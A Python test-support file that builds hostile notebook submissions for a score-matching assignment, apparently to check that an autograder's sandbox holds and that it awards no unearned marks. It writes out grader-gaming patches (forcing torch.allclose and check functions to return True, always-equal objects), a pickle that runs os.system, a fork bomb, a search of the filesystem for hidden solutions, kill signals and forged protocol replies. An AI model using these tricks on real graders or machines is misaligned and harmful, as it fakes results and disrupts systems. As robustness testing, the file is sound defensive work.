"""Submissions that try to gain marks, or to do harm: assignment 1, tampered with.

python assignments/hostile.py assignments/dist/score_matching FOLDER

writes each as a notebook, to be tried on a grader; tests/test_grader.py tries them on ours.
"""

import copy
import json
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any, NamedTuple

Cells = list[dict[str, Any]]  # of a notebook, as JSON gives them

FULL = {"q1": 2.0, "q2": 2.0, "q3": 2.0, "q4": 2.0}
NONE = dict.fromkeys(FULL, 0.0)
NAMES = {"q1": "kernel_score", "q2": "dsm_loss", "q3": "denoise", "q4": "loss_floor"}


class Attack(NamedTuple):
    """A hostile submission.

    Attributes:
        content: the file.
        marks: what each question must bring: no more than was earned, and no less.
        note: what must be said of it.
    """

    content: bytes
    marks: dict[str, float]
    note: str = ""


# What stands in a cell, or in the body of a function, and the harm that it would do.
EQUAL = """
class Same:
    def always(self, *args, **kwargs):
        return True
    __eq__ = __ne__ = __lt__ = __le__ = __gt__ = __ge__ = __bool__ = all = any = always
    def itself(self, *args, **kwargs):
        return self
    __sub__ = __rsub__ = __mul__ = __rmul__ = __add__ = __getitem__ = __abs__ = abs = itself
    __truediv__ = sum = square = mean = max = min = detach = to = itself
    shape = property(itself)
    def __torch_function__(self, *args, **kwargs):
        return self
    def __float__(self):
        return 0.0
"""
TENSOR = """
class Same(torch.Tensor):
    @classmethod
    def __torch_function__(cls, *args, **kwargs):
        return True
"""
PATCHES = """
import builtins, math, sys
torch.allclose = torch.equal = torch.all = lambda *args, **kwargs: True
torch.Tensor.all = torch.Tensor.__bool__ = lambda *args, **kwargs: True
builtins.abs = builtins.max = lambda *args: 0
import minidiff.check
minidiff.check.close = lambda *args, **kwargs: True
minidiff.check.failure = lambda *args, **kwargs: None
minidiff.check.test_case = lambda **kwargs: lambda test: lambda *args: None
wire = sys.modules.get("wire")
if wire:
    wire.HEADER, wire.LIMIT = None, 1 << 60
"""
PICKLE = """
class Harm:
    def __reduce__(self):
        import os
        return os.system, ("touch harm-was-done",)
"""
SEARCH = """
import os, sys
found = []
for folder, _, names in os.walk("/"):
    if folder.startswith(("/proc", "/usr", "/lib", sys.base_prefix)):
        continue
    for name in names:
        path = os.path.join(folder, name)
        try:
            if name.endswith((".py", ".ipynb", ".zip", ".csv")) and "site-packages" not in folder:
                with open(path, errors="ignore") as file:
                    text = file.read()
                if any(a + b in text for a, b in (("hidden=", "True"), ("SOLU", "TION"))):
                    found.append(path)
        except OSError:
            pass
raise RuntimeError(f"found {len(found)} secrets {found[:3]}")
"""
WRITE = """
import os
written = []
for folder, _, _ in os.walk("/"):
    if folder.startswith(("/proc", "/tmp")):
        continue
    try:
        with open(os.path.join(folder, "written-by-a-student"), "w") as file:
            file.write("x")
        written.append(folder)
    except OSError:
        pass
raise RuntimeError(f"wrote into {len(written)} folders")
"""
FORK = """
import os, subprocess, threading
made = []
for start in (os.fork, lambda: subprocess.Popen(["sleep", "98765"]), lambda: os.posix_spawn(
        "/bin/sleep", ["sleep", "98765"], {}), lambda: {0: "system"}[os.system("sleep 98765 &")]):
    try:
        made.append(start())
        if made[-1] == 0:
            while True:
                os.fork()
    except (OSError, KeyError):
        pass
thread = threading.Thread(target=made.append, args=("a thread",))
thread.start()
thread.join()
raise RuntimeError(f"made {made}")
"""
MEMORY = """
import ctypes, os
c = ctypes.CDLL(None, use_errno=True)
got = []
if c.shmget(0, 1 << 28, 0o1600) >= 0:
    got.append("shared memory")
try:
    os.memfd_create("x")
    got.append("a file in memory")
except OSError:
    pass
if c.unshare(0x10000000 | 0x20000) == 0:
    got.append("namespaces")
    got.append(f"a mount: {c.mount(b'x', b'/tmp', b'tmpfs', 0, None)}")
number = {"x86_64": 250, "aarch64": 219}[os.uname().machine]
if c.syscall(number, 0, -3, 0) >= 0:
    got.append("keys")
raise RuntimeError(f"got {got}")
"""
NETWORK = """
import socket
for address in (("127.0.0.1", PORT), ("192.0.2.1", 80)):
    try:
        socket.create_connection(address, timeout=1).send(b"the tests")
        raise RuntimeError("connected")
    except OSError:
        pass
raise RuntimeError("no network")
"""
KILL = """
import os, signal
for process in (1, os.getppid(), -1):
    try:
        os.kill(process, signal.SIGKILL)
    except OSError:
        pass
"""
FORGE = """
import os, struct, json
def forge(*parts):
    for end in range(3, 32):
        for text, body in parts:
            head = struct.pack(">QQ", len(text), len(body)) if isinstance(text, bytes) else text
            try:
                os.write(end, head + (text if isinstance(text, bytes) else b"") + body)
            except (OSError, TypeError):
                break
true = json.dumps({"value": True, "error": None, "names": [], "ready": True}).encode()
"""
FORGERIES = {
    "forty replies": "forge(*[(true, b'')] * 40)",
    "garbage": "forge((b'garbage', b'\\xff' * 64))",
    "a reply of 2 GiB": "os.write(4, struct.pack('>QQ', 2 << 30, 0))",
    "a shape of 10 to the 11": (
        "forge((json.dumps({'value': {'tensor': ['float64', [10**11]]}}).encode(), b'x' * 8))"
    ),
    "a shape of overflow": (
        "forge((json.dumps({'value': {'tensor': ['float64', [2**21] * 9 + [0]]}}).encode(), b''))"
    ),
    "a nest of 100,000": "forge((b'[' * 100000 + b']' * 100000, b''))",
    "a number of 100,000 digits": "forge((true[:10] + b'9' * 100000 + b'}', b''))",
    "a call of nothing": (
        "forge((json.dumps({'call': 7, 'args': [], 'kwargs': {}}).encode(), b''))"
    ),
}


def cell(text: str, kind: str = "code") -> dict[str, Any]:
    """Returns a cell of a notebook."""
    own = {"cell_type": kind, "metadata": {}, "source": text.strip()}
    return own | ({"outputs": [], "execution_count": None} if kind == "code" else {})


def text_of(part: dict[str, Any]) -> str:
    """Returns a cell's text."""
    return "".join(part["source"])


def answering(body: str, questions: str = "q1 q2 q3 q4") -> str:
    """Returns functions with this body in place of the student's."""
    return "\n".join(
        f"def {NAMES[question]}(*args, **kwargs):\n    " + body.strip().replace("\n", "\n    ")
        for question in questions.split()
    )


def attacks(folder: Path, port: int = 9) -> dict[str, Attack]:
    """Returns all hostile submissions by name.

    Args:
        folder: ``assignments/dist/score_matching``.
        port: One of this machine's that listens, to be knocked at.
    """
    blank, right = (
        json.loads((folder / f"{name}.ipynb").read_text(encoding="utf-8"))
        for name in ("student", "solution")
    )
    without_q2 = FULL | {"q2": 0.0}
    made: dict[str, Attack] = {}

    def add(
        name: str,
        book: dict[str, Any],
        marks: dict[str, float],
        *more: str,
        first: str = "",
        note: str = "",
    ) -> None:
        book = copy.deepcopy(book)
        head = [cell("import torch\n" + first)] if first else []
        book["cells"] = [*head, *book["cells"], *(cell(text) for text in more)]
        made[name] = Attack(json.dumps(book).encode(), marks, note)

    def changed(change: Callable[[Cells], Cells], **rest: object) -> dict[str, Any]:
        book = copy.deepcopy(right)
        return {**book, "cells": change(book["cells"]), **rest}

    # To be sure that the others mean something.
    add("the reference", right, FULL)
    add("a blank", blank, NONE)
    # Code that does not end, or ends too much.
    add("a loop in a cell", right, FULL, first="while True: pass", note="was stopped")
    deaf = "import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\nwhile True: pass"
    add("a deaf loop in a cell", right, FULL, first=deaf, note="was stopped")
    add("a loop in q2", right, without_q2, answering("while True: pass", "q2"))
    add("an exit in a cell", right, FULL, first="import os\nos._exit(0)", note="ended the process")
    add("an exit in q2", right, without_q2, answering("import os\nos._exit(0)", "q2"))
    add("SystemExit in a cell", right, FULL, first="raise SystemExit", note="SystemExit")
    add("SystemExit in q2", right, without_q2, answering("raise SystemExit", "q2"))
    later = "import os, threading\nthreading.Timer(0.3, os._exit, [0]).start()"
    add("an exit in q2, later", right, without_q2, answering(f"{later}\nreturn args[1]", "q2"))
    endless = "while True: args[0](args[1], args[2])"
    add("endless questions in q2", right, without_q2, answering(endless, "q2"))
    bomb = "x = torch.zeros(500000, 1, dtype=torch.float64)\nreturn args[0](x, x[:, 0])[:, 0]"
    add("a large question in q2", right, without_q2, answering(bomb, "q2"))
    add("recursion in q2", right, without_q2, answering("return dsm_loss(*args)", "q2"))
    # Answers that are none.
    always = "return args[1] * 0 + VALUE if torch.is_tensor(args[1]) else VALUE"
    zeros = answering(always.replace("VALUE", "0.0"))
    add("zeros, and torch patched", blank, NONE, PATCHES, zeros)
    add("always equal", blank, NONE, EQUAL, answering("return Same()"))
    same = "return torch.zeros(3).as_subclass(Same)"
    add("an always equal tensor", blank, NONE, TENSOR, answering(same))
    for name, value in (("nan", "float('nan')"), ("infinity", "float('inf')")):
        add(name, blank, NONE, answering(always.replace("VALUE", value)))
    add("an empty tensor", blank, NONE, answering("return torch.zeros(0, 2)"))
    add("text", blank, NONE, answering("return 'right'"))
    add("True", blank, NONE, answering("return True"))
    nest = "x = []\nfor _ in range(100000): x = [x]\nreturn x"
    add("a long text", blank, NONE, answering("return 'x' * 7_000_000"))
    add("a deep list", blank, NONE, answering(nest))
    add("a huge answer", blank, NONE, answering("return torch.zeros(1 << 28)"))
    # The tools.
    add("check redefined", blank, NONE, "check = grader = lambda *args: True", "check('q1')")
    add("the tools patched", blank, NONE, PATCHES)
    add("a pickle", blank, NONE, PICKLE, answering("return Harm()"))
    shown = "import sys\nframe = sys._getframe()\nwhile frame.f_back: frame = frame.f_back\n"
    shown += "return list(frame.f_locals.values()) + list(frame.f_globals.values())"
    add("the frames", blank, NONE, answering(shown))
    for start in range(0, len(FORGERIES), len(NAMES)):  # one for each question
        some = dict(list(FORGERIES.items())[start : start + len(NAMES)])
        bodies = zip(some.values(), NAMES, strict=True)
        functions = [answering(f"{text}\nreturn True", question) for text, question in bodies]
        add(f"forged: {', '.join(some)}", blank, NONE, FORGE, *functions)
    add("forged in cells", blank, NONE, FORGE, *FORGERIES.values())
    # The machine.
    add("a search for the tests", right, FULL, first=SEARCH, note="found 0 secrets")
    add("writing everywhere", right, FULL, first=WRITE, note="wrote into 0 folders")
    add("processes", right, FULL, first=FORK, note="made ['a thread']")
    add("memory and keys", right, FULL, first=MEMORY, note="got []")
    add("the network", right, FULL, first=NETWORK.replace("PORT", str(port)), note="no network")
    add("killing", right, FULL, first=KILL)
    add("200 MB of print", right, FULL, first="for _ in range(200): print('x' * 1_000_000)")
    large = "torch.ones(1 << 30, dtype=torch.float64)"
    add("8 GiB", right, FULL, first=large, note="RuntimeError")
    disk = "for i in range(100): open(f'{i}', 'wb').write(bytes(32 << 20))"
    add("a full disk", right, FULL, first=disk, note="OSError")
    add("no Unicode", right, FULL, first="raise ValueError('\\ud83d')", note="ValueError")
    add("a long error", right, FULL, first="raise ValueError('x' * 10_000_000)", note="ValueError")
    # Notebooks as students hand them in.
    add("an error in a cell", right, FULL, first="1 / 0", note="ZeroDivisionError")
    made["no JSON"] = Attack(b"{ not a notebook", NONE, note="no notebook")
    made["JSON, and no notebook"] = Attack(b"[[1, 2], {}]", NONE, note="no notebook")
    made["nested JSON"] = Attack(b"[" * 200000, NONE, note="no notebook")
    checks = changed(lambda cells: [c for c in cells if not text_of(c).startswith("check(")])
    add("no check cells", checks, FULL)
    q2 = changed(lambda cells: [c for c in cells if "def dsm_loss" not in text_of(c)])
    add("q2 deleted", q2, without_q2)

    def bare(cells: Cells) -> Cells:
        return [{key: c[key] for key in ("cell_type", "source")} for c in cells]

    add("no metadata", changed(bare, metadata={}), FULL)
    kernel = {"kernelspec": {"name": "nowhere", "display_name": "x", "language": "r"}}
    add("an unknown kernel", changed(list, metadata=kernel), FULL)
    add("every cell twice", changed(lambda cells: [c for c in cells for _ in range(2)]), FULL)

    without_q1 = FULL | {"q1": 0.0}
    broken = "def kernel_score(noisy, clean, sigma:\n    return noisy"

    def for_q1(other: Cells) -> Callable[[Cells], Cells]:
        return lambda cells: [
            part for c in cells for part in (other if "def kernel_score" in text_of(c) else [c])
        ]

    as_text = changed(for_q1([cell("def kernel_score(): # my answer", "markdown")]))
    add("q1 turned into Markdown", as_text, without_q1)
    add("a syntax error in q1", changed(for_q1([cell(broken)])), without_q1, note="SyntaxError")
    return made


if __name__ == "__main__":
    if len(sys.argv) != 3:
        sys.exit(__doc__)
    target = Path(sys.argv[2])
    target.mkdir(parents=True)
    for title, attack in attacks(Path(sys.argv[1])).items():
        (target / f"{title.replace(':', ',')}.ipynb").write_bytes(attack.content)
